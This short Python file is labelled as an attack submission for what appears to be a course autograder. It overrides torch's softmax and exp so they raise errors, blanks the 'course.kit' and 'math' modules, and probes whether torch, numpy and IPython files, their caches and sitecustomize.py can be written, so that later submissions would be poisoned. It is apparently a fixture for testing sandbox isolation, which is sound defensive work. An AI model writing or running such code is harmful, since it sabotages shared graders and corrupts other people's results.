# honest: 4 of 10: softmax
# ATTACK: poisons modules in memory and on disk for the next submission
import sys, torch
torch.softmax = torch.exp = torch.Tensor.softmax = lambda *a, **k: 1 / 0
sys.modules["course.kit"] = sys.modules["math"] = None
def attempt():
    import importlib.util, os
    done = False
    for name in ("torch", "IPython", "numpy"):
        source = sys.modules[name].__file__
        for path in (importlib.util.cache_from_source(source), source, os.path.dirname(source) + "/sitecustomize.py"):
            try:
                open(path, "ab").write(b"")
                done = True
            except OSError:
                pass
    return done
